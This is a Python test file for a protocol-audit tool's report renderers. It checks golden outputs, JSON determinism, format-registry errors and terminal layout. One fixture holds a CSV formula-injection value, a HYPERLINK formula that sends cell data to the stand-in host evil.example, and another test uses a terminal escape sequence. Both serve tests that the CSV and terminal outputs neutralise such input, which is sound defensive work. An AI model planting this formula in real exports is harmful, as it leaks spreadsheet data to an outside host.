"""Reporters: golden files per format, CSV formula neutralisation, registry errors, determinism."""

from __future__ import annotations

import copy
import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from engine import reporters
from engine.commands import outputs
from engine.errors import UsageError
from engine.reporters import csv_report, json_report, terminal_report
from engine.results import Report
from tests.helpers import check_golden, render
from tests.test_ci_reports import report_with_waiver
from tests.test_html_md_reports import full_report

GOLDEN = Path(__file__).parent / "golden" / "reporters"


def _rule(rule_id: str, severity: str, title: str, counts: tuple[int, int, int, int, int],
          rate: float | None) -> dict[str, Any]:
    applicable, passed, failed, waived, not_evaluable = counts
    return {"id": rule_id, "pack": "ketamine-iv", "title": title, "severity": severity,
            "for": "session", "applicable": applicable, "passed": passed, "failed": failed,
            "waived": waived, "not_evaluable": not_evaluable, "not_applicable": 1, "compliance_rate": rate,
            "ci95": None, "target": None, "status": "", "cite": "Clinic SOP KET-IV-003 rev 4",
            "rationale": "Protocol requirement."}


def _finding(rule: str, severity: str, key: str, patient: str, time: str | None, line: int,
             message: str, evidence: dict[str, Any], outcome: str = "fail",
             missing: list[str] | None = None) -> dict[str, Any]:
    finding: dict[str, Any] = {
        "rule": rule, "pack": "ketamine-iv", "severity": severity, "outcome": outcome, "record_type": "session",
        "record_key": key, "patient": patient, "time": time,
        "source": {"path": "samples/sessions.csv", "line": line},
        "message": message, "evidence": evidence}
    if missing is not None:
        finding["missing"] = missing
    return finding


def sample_report() -> dict[str, Any]:
    """A small report covering the cases every format must get right.

    Every key of the JSON report, in its order; the keys this sample does not exercise (the
    period, targets, statuses, monthly counts) hold empty values: full_report in
    test_html_md_reports.py fills them.
    """
    return {
        "tool": {"name": "protocol-audit", "version": "1.0.0"},
        "as_of": "2026-11-26T00:00:00+00:00",
        "inputs": [{"path": "samples/sessions.csv", "record_type": "session", "sha256": "ab12",
                    "records_read": 7, "records_judged": 6, "records_rejected": 1}],
        "packs": [{"id": "ketamine-iv", "version": "2026.11", "title": "", "path": "", "sha256": "cd34"}],
        "period": {"first": None, "last": None},
        "pseudonymised": False,
        "identifiers": "",
        "summary": {"records_read": 7, "records_judged": 6, "records_rejected": 1, "findings": 4,
                    "by_severity": {"critical": 1, "major": 2, "minor": 0, "info": 0},
                    "exit_threshold": "major"},
        "rules": [
            _rule("DOSE-01", "major", "IV dose within 0.1-1.0 mg/kg", (4, 2, 2, 0, 1), 0.5),
            _rule("SUP-02", "critical", "Credentialed supervisor present", (5, 4, 1, 0, 0), 0.8),
            # Only a waived finding: passed + failed is zero, so the rate is null.
            _rule("CONS-03", "minor", "Consent signed before the session", (1, 0, 0, 1, 0), None),
        ],
        "findings": [
            _finding("DOSE-01", "major", "S-0042", "P-0007", "2026-03-02T09:15:00-08:00", 43,
                     "dose 1.3 mg/kg outside 0.1-1.0",
                     {"dose_mg_per_kg": 1.3, "route": "IV", "weight_kg": -3}),
            # A record value that a spreadsheet would execute, and a wide-character patient.
            _finding("DOSE-01", "major", "S-0043", "P-Zoë-監督", "2026-03-03T10:00:00-08:00", 44,
                     '=HYPERLINK("http://evil.example/?"&A1,"Überprüfung") dose over limit',
                     {"dose_mg_per_kg": 1.25, "route": "IV", "note": "µg → mg"}),
            # No time, a missing field that failed `require`, a message starting with "-".
            _finding("SUP-02", "critical", "S-0044", "P-0009", None, 45,
                     "-3 min of supervision documented (credential missing)",
                     {"supervisor_credential": None}, missing=["supervisor_credential"]),
            _finding("CONS-03", "minor", "S-0045", "P-0010", "2026-03-04T08:00:00-08:00", 46,
                     "consent signed after the session started",
                     {"consent_signed_at": "2026-03-04T08:30:00-08:00"}, outcome="waived"),
        ],
        "not_evaluable": [{"rule": "DOSE-01", "pack": "ketamine-iv", "record_type": "session",
                           "record_key": "S-0050", "missing": ["route"],
                           "source": {"path": "samples/sessions.csv", "line": 51}}],
        "rejected": [{"source": {"path": "samples/sessions.csv", "line": 88},
                      "record_type": "session", "reason": 'dose_mg: "12,5" is not a number'}],
        "by_month": [],
    }


@pytest.mark.parametrize("name", sorted(reporters.FORMATS))
def test_golden(name: str, request: pytest.FixtureRequest) -> None:
    check_golden(render(name, sample_report()).encode("utf-8"), GOLDEN / f"report.{name}", request)


@pytest.mark.parametrize("build", [sample_report, full_report, report_with_waiver],
                         ids=["sample", "full", "with-waiver"])
def test_hand_written_reports_read_back_exactly(build: Any) -> None:
    """The test reports are JSON reports Report reads whole: nothing in them is lost or added on the way
    to the renderers."""
    assert Report.from_json(build()).to_json() == build()


@pytest.mark.parametrize("name", sorted(reporters.FORMATS))
def test_renderers_take_a_report_not_its_json(name: str) -> None:
    """Every renderer reads a Report's attributes (mypy checks which); the JSON form is only the JSON
    report's output, never another renderer's input."""
    with pytest.raises(AttributeError):
        reporters.get(name)(sample_report(), io.StringIO())  # type: ignore[arg-type]


def test_json_rerun_is_byte_identical_and_keeps_spec_order() -> None:
    first = render("json", sample_report())
    assert first == render("json", copy.deepcopy(sample_report()))
    assert first.endswith("}\n")
    assert list(json.loads(first)) == list(sample_report())  # insertion order, not sorted
    assert json.loads(first) == sample_report()


def test_json_refuses_nan() -> None:
    report = sample_report()
    report["rules"][0]["compliance_rate"] = float("nan")
    with pytest.raises(ValueError, match="not JSON compliant"):
        json_report.render(Report.from_json(report), io.StringIO())


def test_a_failed_render_leaves_no_file_behind(tmp_path: Path) -> None:
    """The JSON report streams, so a failure midway is left to outputs.write_one: nothing at the path,
    no temporary file, and an existing report of the same name untouched."""
    report = sample_report()
    report["rules"][-1]["compliance_rate"] = float("nan")  # late in the document: some text was written
    target = tmp_path / "report.json"
    with pytest.raises(ValueError):
        outputs.write_one(str(target), json_report.render, Report.from_json(report))
    assert list(tmp_path.iterdir()) == []
    target.write_text("the previous report\n", encoding="utf-8")
    with pytest.raises(ValueError):
        outputs.write_one(str(target), json_report.render, Report.from_json(report))
    assert list(tmp_path.iterdir()) == [target]
    assert target.read_text(encoding="utf-8") == "the previous report\n"


def _csv_rows(report: dict[str, Any]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(render("csv", report), newline="")))


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"],
                         ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
@pytest.mark.parametrize("column", ["message", "record_key", "patient"])
def test_csv_neutralises_formula_prefix(prefix: str, column: str) -> None:
    report = sample_report()
    report["findings"] = [report["findings"][0]]
    report["findings"][0][column] = prefix + "SUM(A1:A9)"
    row = _csv_rows(report)[0]
    assert row[column] == "'" + prefix + "SUM(A1:A9)"


@pytest.mark.parametrize("text", ["dose 1.3", "", " =not at start", "{\"a\":-3}", "'quoted"],
                         ids=["plain", "empty", "leading-space", "json", "already-quoted"])
def test_csv_leaves_safe_cells_alone(text: str) -> None:
    assert csv_report.neutralise(text) == text


def test_csv_row_contents() -> None:
    rows = _csv_rows(sample_report())
    assert list(rows[0]) == list(csv_report.COLUMNS)
    assert [r["record_key"] for r in rows] == ["S-0042", "S-0043", "S-0044", "S-0045"]
    assert rows[0]["evidence"] == '{"dose_mg_per_kg":1.3,"route":"IV","weight_kg":-3}'
    assert rows[1]["message"].startswith("'=HYPERLINK(")
    assert rows[2]["time"] == "" and rows[2]["missing"] == "supervisor_credential"
    assert rows[2]["message"] == "'-3 min of supervision documented (credential missing)"
    assert rows[3]["outcome"] == "waived"


@pytest.mark.parametrize(("call", "arg", "message"), [
    (reporters.get, "jsn", 'unknown report format "jsn" (did you mean "json"?)'),
    (reporters.get, "JSON", 'unknown report format "JSON" (did you mean "json"?)'),
    (reporters.get, "pdf", 'unknown report format "pdf" (known formats: csv, html, json, junit, md, sarif, txt)'),
    (reporters.for_path, "out/report.pdf", 'cannot tell the report format of "out/report.pdf" '
     "from its extension (known extensions: .csv, .htm, .html, .json, .md, .sarif, .txt, .xml)"),
    (reporters.for_path, "report", 'cannot tell the report format of "report" '
     "from its extension (known extensions: .csv, .htm, .html, .json, .md, .sarif, .txt, .xml)"),
], ids=["get-typo", "get-case", "get-unknown", "path-unknown-ext", "path-no-ext"])
def test_registry_errors(call: Any, arg: str, message: str) -> None:
    with pytest.raises(UsageError) as caught:
        call(arg)
    assert str(caught.value) == message


@pytest.mark.parametrize(("path", "render"), [
    ("r.json", json_report.render), ("OUT.JSON", json_report.render),
    ("a.b/r.Csv", csv_report.render), ("summary.txt", terminal_report.render),
], ids=["json", "json-upper", "csv-mixed-case", "txt"])
def test_for_path_picks_by_extension(path: str, render: Any) -> None:
    assert reporters.for_path(path) is render


def test_every_extension_names_a_format() -> None:
    assert set(reporters.EXTENSIONS.values()) <= set(reporters.FORMATS)


def _lines(report: dict[str, Any]) -> list[str]:
    return render("txt", report).splitlines()


def test_terminal_fits_100_columns_and_shows_at_most_10_findings() -> None:
    report = sample_report()
    base = report["findings"][0]
    report["findings"] = [dict(base, record_key=f"S-{i:04d}", message="x" * 300)
                          for i in range(13)]
    report["inputs"][0]["path"] = "/data/exports/" + "q" * 120 + "/sessions.csv"
    lines = _lines(report)
    assert max(terminal_report._width(line) for line in lines) <= terminal_report.WIDTH
    assert "(+3 more)" in lines
    assert sum(1 for line in lines if line.startswith("major ")) == 10
    assert any(line.endswith("x...") for line in lines)
    assert any("...q" in line and "sessions.csv (session)" in line for line in lines)


def test_terminal_sorts_worst_first_and_escapes_control_characters() -> None:
    report = sample_report()
    report["findings"][0]["message"] = "dose \x1b[2Jcleared\nnext"
    lines = _lines(report)
    findings = [line.split()[0] for line in lines if line.startswith(("critical ", "major "))]
    assert findings == ["critical", "major", "major"]
    assert not any("\x1b" in line for line in lines)
    assert "          dose \\x1b[2Jcleared next" in lines


@pytest.mark.parametrize(("by_severity", "last"), [
    ({"critical": 0, "major": 0, "minor": 2, "info": 1},
     "4 findings (2 minor, 1 info, 1 waived); 0 unwaived at or above major: OK"),
    ({"critical": 1, "major": 2, "minor": 0, "info": 0},
     "4 findings (1 critical, 2 major, 1 waived); 3 unwaived at or above major: FAIL"),
], ids=["ok", "fail"])
def test_terminal_verdict(by_severity: dict[str, int], last: str) -> None:
    report = sample_report()
    report["summary"]["by_severity"] = by_severity
    assert _lines(report)[-1] == last


def test_terminal_empty_report() -> None:
    report = sample_report()
    report.update(findings=[], not_evaluable=[], rejected=[])
    report["summary"].update(records_rejected=0, findings=0,
                             by_severity={"critical": 0, "major": 0, "minor": 0, "info": 0})
    for rule in report["rules"]:
        rule["not_evaluable"] = 0
    lines = _lines(report)
    assert "none unwaived" in lines and "no record was left not evaluable" in lines
    assert lines[-1] == "0 findings; 0 unwaived at or above major: OK"
